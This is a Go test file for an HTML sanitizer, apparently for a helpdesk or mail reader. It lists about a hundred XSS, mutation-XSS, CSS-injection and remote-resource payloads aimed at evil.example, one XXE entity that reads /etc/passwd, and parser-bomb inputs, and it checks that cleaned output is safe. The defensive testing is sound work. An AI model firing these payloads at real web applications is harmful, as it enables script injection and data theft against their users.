package guard

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
)

// hostile holds ways to run script, to ask a server for something, or to leave
// the box, known from helpdesks, mail readers and sanitizers.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"/>`,
	"<img/src=x\x00/onerror=alert(1)>",
	`<img src="https://evil.example/pixel.gif?u=1" width=1 height=1>`,
	`<img srcset="https://evil.example/a 1x" sizes=1>`,
	`<img src="//evil.example/x.png">`,
	`<img src="/api/v1/session/delete">`,
	`<img src="\\evil.example\share\x.png">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img src="javascript:alert(1)">`,
	`<img src=1 href=1 onerror="javascript:alert(1)"></img>`,
	`<input type=image src="https://evil.example/x" formaction=javascript:alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<noembed><img src=x onerror=alert(1)></noembed>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="cid:x">x</a>`,
	`<a href="//evil.example">x</a>`,
	`<a href="https://ok.example" onclick=alert(1) ping="https://evil.example" target=_top>x</a>`,
	`<a href="https://ok.example" rel=opener target=_self>x</a>`,
	`<a name=body id=body class=btn>x</a>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<applet code=x></applet>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<link rel=dns-prefetch href="//evil.example">`,
	`<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>`,
	`<button onclick=alert(1)>x</button><select onfocus=alert(1) autofocus><option>x</select>`,
	`<video src="https://evil.example/x" poster="https://evil.example/y" onerror=alert(1)><source src="https://evil.example/z"></video>`,
	`<audio src="https://evil.example/x" autoplay></audio>`,
	`<table background="https://evil.example/x"><td background="https://evil.example/y">x</table>`,
	`<body onload=alert(1) background="https://evil.example/x">`,
	`<div style="background:url(https://evil.example/x)">x</div>`,
	`<div style="background-image:u\72l(https://evil.example/x)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<div style="behavior:url(x.htc);-moz-binding:url(x.xml#a)">x</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>`,
	`<div style="position:/**/absolute;margin-left:-9999px">x</div>`,
	`<div style="pos\69tion:fixed">x</div>`,
	`<div style="color:red;;;}body{display:none">x</div>`,
	`<div style="color:red&quot; onmouseover=&quot;alert(1)">x</div>`,
	`<div style="margin:-500px;transform:scale(99);float:left;clip:rect(0,0,0,0);opacity:0;filter:url(#x);font-size:9999px;text-indent:-9999px">x</div>`,
	`<div style="content:'x';animation:a 1s;cursor:url(https://evil.example/x),auto;list-style:url(https://evil.example/y)">x</div>`,
	`<div style="width:99999px;height:9999999px;padding:9999px;border:9999px solid red;letter-spacing:999px;line-height:999">x</div>`,
	`<div id=app class="ant-modal" role=dialog contenteditable tabindex=1 accesskey=x draggable=true data-x=1 slot=x part=x is=x>x</div>`,
	`<p onmouseover="alert(1)" OnClick=alert(1) onpointerrawupdate=alert(1)>x</p>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>`,
	`<!--[if gte mso 9]><img src="https://evil.example/x"><![endif]--><!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
	`<template><img src=x onerror=alert(1)></template><slot name=x></slot>`,
	`</div></div></td></table></body></html><div>out</div>`,
	`<img alt="` + "`" + `onerror=alert(1)" src=x>`,
	`<img alt='"><script>alert(1)</script>' src="https://evil.example/x?a=&quot;&gt;&lt;script&gt;">`,
	`<font color="red;background:url(x)" size=99 face="x">x</font>`,
	`<td colspan=99999999 rowspan=65534>x</td>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script><o:p onclick=x>y</o:p>`,
	"<a\x0bhref='https://ok.example'\x0conclick=alert(1)>x</a>",
	`<a href="https://ok.example/" "onclick=alert(1)">x</a>`,
	`<<script>alert(1);//<</script>`,
	`<a href="http://a.example/'onmouseover='alert(1)'">x</a>`,
	`<a href="https://evil.example\@ok.example">x</a>`,
	`<frameset><frame src="javascript:alert(1)"></frameset><layer src=x></layer><bgsound src="https://evil.example/x">`,
}

var (
	listedElement = regexp.MustCompile(`^(p|div|span|br|hr|wbr|h[1-6]|b|strong|i|em|u|s|strike|del|ins|sub|sup|small|big|tt|code|pre|kbd|samp|var|blockquote|q|cite|abbr|mark|address|center|font|a|img|ul|ol|li|dl|dt|dd|table|caption|colgroup|col|thead|tbody|tfoot|tr|td|th|figure|figcaption)$`)
	listedAttr    = regexp.MustCompile(`^(style|dir|lang|align|valign|width|height|bgcolor|color|colspan|rowspan|span|border|cellpadding|cellspacing|size|start|value|type|href|rel|target|src|alt|data-src)$`)
	badStyle      = regexp.MustCompile(`(?i)url|expression|position|behavio|binding|import|float|z-index|transform|opacity|clip|animation|content|cursor|filter|[\\'"<>/*{}@]|-[0-9]|[0-9]{5}`)
)

// safe says what is wrong with cleaned HTML, as a browser would see it.
func safe(out string) string {
	depth := []string{}
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if len(depth) > 0 {
				return "left open: " + depth[len(depth)-1]
			}
			return ""
		case html.CommentToken, html.DoctypeToken:
			return "a comment or doctype"
		case html.EndTagToken:
			name, _ := z.TagName()
			if len(depth) == 0 || depth[len(depth)-1] != string(name) {
				return "not nested: </" + string(name) + ">"
			}
			depth = depth[:len(depth)-1]
		case html.StartTagToken, html.SelfClosingTagToken:
			t := z.Token()
			if !listedElement.MatchString(t.Data) {
				return "element " + t.Data
			}
			if !void[t.Data] {
				depth = append(depth, t.Data)
			}
			for _, a := range t.Attr {
				switch {
				case !listedAttr.MatchString(a.Key):
					return "attribute " + a.Key
				case a.Key == "style" && badStyle.MatchString(a.Val):
					return "style " + a.Val
				case a.Key == "href" && !regexp.MustCompile(`^(?i:https?://|mailto:|tel:)`).MatchString(a.Val):
					return "href " + a.Val
				case a.Key == "href" && (attrOf(t, "target") != "_blank" || attrOf(t, "rel") != "noopener noreferrer nofollow"):
					return "a link without rel and target"
				case a.Key == "src" && !strings.HasPrefix(a.Val, "/files/") && !regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,`).MatchString(a.Val):
					return "src " + a.Val
				case a.Key == "data-src" && !regexp.MustCompile(`^(?i:https?://)`).MatchString(a.Val):
					return "data-src " + a.Val
				}
			}
		}
	}
}

func TestHostileHTML(t *testing.T) {
	for _, h := range hostile {
		for _, in := range []string{h, "<p>before</p>" + h + "<p>after</p>", "<table><tr><td>" + h, strings.ToUpper(h), `<div title="` + h + `">x</div>`, html.EscapeString(h)} {
			out := HTML(in)
			if bad := safe(out); bad != "" {
				t.Errorf("%s in\n%s\nfrom %s", bad, out, in)
			}
			if again := HTML(out); safe(again) != "" {
				t.Errorf("a second pass makes it unsafe: %s", again)
			}
		}
	}
}

func TestGoodHTML(t *testing.T) {
	cid := func(id string) string {
		if id == "logo@x" {
			return "/files/42"
		}
		return ""
	}
	for in, want := range map[string]string{
		`<p>你好 <b>世界</b><br>第二行</p>`:                                                    `<p>你好 <b>世界</b><br>第二行</p>`,
		`a < b & c > d "q"`:                                                             `a &lt; b &amp; c &gt; d "q"`,
		`<a href="https://ok.example/a?b=1&c=2">链接</a>`:                                 `<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">链接</a>`,
		`<a href="mailto:a@b.example">m</a>`:                                            `<a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">m</a>`,
		`<a href="tel:+8610">t</a>`:                                                     `<a href="tel:+8610" rel="noopener noreferrer nofollow" target="_blank">t</a>`,
		`<a href="javascript:x">t</a>`:                                                  `<a>t</a>`,
		`<img src="https://a.example/x.png" alt="图" width=20>`:                          `<img data-src="https://a.example/x.png" alt="图" width="20">`,
		`<img src="cid:logo@x">`:                                                        `<img src="/files/42">`,
		`<img src="cid:logo%40x">`:                                                      `<img src="/files/42">`,
		`<img src="cid:none">`:                                                          `<img>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=">`:                                `<img src="data:image/png;base64,iVBORw0KGgo=">`,
		`<span style="COLOR: Red; font-weight:bold">x</span>`:                           `<span style="color:red;font-weight:bold">x</span>`,
		`<p style="margin:0 0 12px;position:fixed">x</p>`:                               `<p style="margin:0 0 12px">x</p>`,
		`<td style="border:1px solid #ccc;padding:4px 8px">x</td>`:                      `<td style="border:1px solid #ccc;padding:4px 8px">x</td>`,
		`<div style="background:#fff url(x)">x</div>`:                                   `<div>x</div>`,
		`<table border=1><tr><td colspan=2 bgcolor=#eee>x`:                              `<table border="1"><tr><td colspan="2" bgcolor="#eee">x</td></tr></table>`,
		`<ul><li>a<li>b</ul>`:                                                           `<ul><li>a<li>b</li></li></ul>`,
		`<div><b>x</div>y</b>`:                                                          `<div><b>x</b></div>y`,
		`<html><head><title>no</title><style>p{}</style></head><body>yes</body></html>`: `yes`,
		`<o:p>x</o:p>`: `x`,
		``:             ``,
	} {
		if got := HTMLWith(in, cid); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

// bombs are inputs that made parsers slow or their output large.
func bombs(size int) map[string]string {
	fill := func(unit string) string { return strings.Repeat(unit, size/len(unit)) }
	return map[string]string{
		"deep":        fill("<div>"),
		"unclosed":    fill("<b><i><u>"),
		"stray ends":  fill("</div>"),
		"links":       fill("<a href=//x>"),
		"real links":  fill("<a href=http://x>y"),
		"lt":          fill("<"),
		"quotes":      fill(`"`),
		"amps":        fill("&"),
		"entities":    fill("&#x26;"),
		"attrs":       "<p " + fill("a=b "),
		"styles":      `<p style="` + fill("color:red;") + `">x</p>`,
		"many styles": fill(`<p style="color:red;margin:1px">`),
		"css open":    fill(`<p style="a:((((((((((((((((">`),
		"comment":     "<!--" + fill("-"),
		"comments":    fill("<!-->"),
		"cdata":       fill("<![CDATA["),
		"tables":      fill("<table><tr><td>"),
		"lists":       fill("<ul><li>"),
		"quoted":      fill("<blockquote>x"),
		"images":      fill("<img src=http://x/y>"),
		"data image":  `<img src="data:image/png;base64,` + fill("A") + `">`,
		"breaks":      fill("<br>"),
		"pre":         "<pre>" + fill("\n"),
		"spaces":      fill(" "),
		"script":      fill("<script>"),
		"scripts":     fill("<script></script>"),
		"skip":        fill("<svg><object>"),
		"long name":   "<" + fill("a"),
		"nul":         fill("\x00"),
		"bad utf8":    fill("\xff"),
		"han":         fill("工单"),
		"one link":    "<a href=http://abcabc>" + fill("abcab") + "</a>",
	}
}

func TestText(t *testing.T) {
	for in, want := range map[string]string{
		`<p>你好，</p><p>我的订单<b>没到</b>。</p>`: "你好，\n\n我的订单没到。",
		`a<br>b<br><br>c`:                         "a\nb\n\nc",
		"a\n   b\t c":                             "a b c",
		`<div>a</div><div>b</div>`:                "a\nb",
		`<ul><li>one<li>two<ul><li>in</ul></ul>x`: "- one\n- two\n  - in\nx",
		`<ol start=3><li>a<li>b</ol>`:             "3. a\n4. b",
		`<table><tr><th>品名<th>数量<tr><td>空调<td>2</table>后`:        "品名\t数量\n空调\t2\n\n后",
		`<a href="https://x.example/a">点这里</a>。`:                 "点这里 (https://x.example/a)。",
		`<a href="https://x.example/">x.example</a>`:             "x.example",
		`<a href="mailto:a@b.example">a@b.example</a>`:           "a@b.example",
		`<a href="javascript:x">y</a>`:                           "y",
		`<blockquote>q1<br>q2</blockquote>r`:                     "> q1\n> q2\n\nr",
		`x<blockquote>a<blockquote>b</blockquote></blockquote>`:  "x\n\n> a\n>\n> > b",
		`<img alt="流程图" src=x>`:                                  "[流程图]",
		`<style>p{}</style><script>x</script><title>t</title>ok`: "ok",
		"<pre>a\n  b</pre>c":                                     "a\n  b\n\nc",
		`&lt;b&gt; &amp; &nbsp;x &copy;`:                         "<b> & x ©",
		`<!-- no -->yes`:                                         "yes",
		`a<hr>b`:                                                 "a\n---\nb",
		`<h1>标题</h1>文`:                                           "标题\n\n文",
		`<td>a</td><td>b</td>`:                                   "a\tb",
		`<script>unclosed`:                                       "",
		`1 < 2 and 3 > 2`:                                        "1 < 2 and 3 > 2",
		``:                                                       "",
	} {
		if got := Text(in); got != want {
			t.Errorf("%s\n got %q\nwant %q", in, got, want)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	for _, b := range bombs(200) {
		f.Add(b)
	}
	cid := func(id string) string { return "/files/" + id }
	f.Fuzz(func(t *testing.T, in string) {
		out := HTMLWith(in, cid)
		if bad := safe(out); bad != "" {
			t.Fatalf("%s in %q from %q", bad, out, in)
		}
		if !utf8.ValidString(out) || !utf8.ValidString(Text(in)) {
			t.Fatalf("broken UTF-8 from %q", in)
		}
	})
}

func BenchmarkHTML(b *testing.B) {
	in := strings.Repeat(`<tr><td style="padding:4px;border:1px solid #ccc">单号 <a href="https://x.example/1">E5-0032</a></td><td><img src="https://x.example/y.png"></td></tr>`, 100)
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		HTML("<table>" + in + "</table>")
	}
}
